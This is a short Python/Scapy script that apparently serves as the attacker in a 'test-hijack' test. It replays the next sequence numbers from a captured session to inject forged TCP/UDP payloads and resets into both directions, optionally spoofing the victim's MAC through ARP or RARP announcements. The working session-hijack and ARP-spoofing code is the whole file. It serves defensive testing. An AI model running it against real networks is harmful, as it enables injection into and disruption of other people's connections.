#!/usr/bin/python3
# SPDX-License-Identifier: BSD-3-Clause
"""The attacker of test-hijack: forge.py SESSION.pcap OWN|VICTIM none|arp|rarp

Knows everything: the live session's frames, ports and next sequence numbers. Sends, from this machine, what both ends of the
session would send next, with the payload FORGED, under its own MAC or the victim's, after announcing the victim's MAC here.
"""
import sys

from scapy.all import ARP, TCP, UDP, Ether, Raw, get_if_hwaddr, rdpcap, sendp

capture, mac, announce = sys.argv[1:4]
BROADCAST = "ff:ff:ff:ff:ff:ff"
last = {}  # of each direction
for frame in rdpcap(capture):
    kind = TCP if TCP in frame else UDP if UDP in frame else None
    if kind:
        last[kind, frame["IP"].src] = frame


def announcement(victim, address):
    if announce == "arp":
        return [Ether(src=victim, dst=BROADCAST) / ARP(op=1, hwsrc=victim, psrc=address, pdst=address)]
    if announce == "rarp":
        return [Ether(src=victim, dst=BROADCAST, type=0x8035) / ARP(op=3, hwsrc=victim, hwdst=victim, psrc="0.0.0.0", pdst="0.0.0.0")]
    return []


def next_of(frame):
    forged = frame.copy()
    kind = forged[TCP] if TCP in forged else forged[UDP]
    if TCP in forged:
        kind.seq += len(frame["IP"]) - 20 - kind.dataofs * 4
        kind.flags = "PA"
    kind.remove_payload()
    forged = forged / Raw(b"FORGED\n")
    if mac == "OWN":
        forged[Ether].src = get_if_hwaddr("eth0")
    for layer, field in (("IP", "len"), ("IP", "chksum"), (kind.name, "chksum"), (kind.name, "len")):
        if field in (f.name for f in forged[layer].fields_desc):
            delattr(forged[layer], field)
    return forged


def reset_of(frame):
    forged = next_of(frame)
    forged[TCP].flags = "R"
    forged[TCP].remove_payload()
    del forged["IP"].len, forged["IP"].chksum, forged[TCP].chksum
    return forged


for (kind, address), frame in last.items():
    forged = [next_of(frame)] + ([reset_of(frame)] if kind is TCP else [])
    sendp(announcement(frame[Ether].src, address) + forged * 3, iface="eth0", verbose=False)
print(f"{len(last)} directions forged")
